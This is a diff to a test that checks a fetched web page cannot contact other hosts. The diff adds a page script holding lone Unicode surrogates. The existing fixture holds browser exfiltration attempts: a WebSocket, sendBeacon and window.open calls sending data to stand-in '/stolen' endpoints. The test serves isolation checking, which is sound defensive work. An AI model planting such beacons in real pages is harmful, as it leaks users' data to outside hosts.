@@ -40,7 +40,9 @@ def test_a_page_reaches_nobody_else(
             f" new WebSocket('ws://localhost:{other.port}/stolen?by=socket');"
             f" navigator.sendBeacon('{away}/stolen?by=beacon', 'x'); window.open('{away}/stolen?by=window')</script>"
         )
-        shell(site, "tricky", tricks)
+        # A lone surrogate, as a broken text leaves it, must not lose the page.
+        halves = "<script>document.body.append('caf\\udce9'); document.body.title = '\\ud800'</script>"
+        shell(site, "tricky", tricks + halves)
         site.homes(["tricky"])
         report = fetch_source(source, king, DAY, site_settings, store)
         assert not other.hits
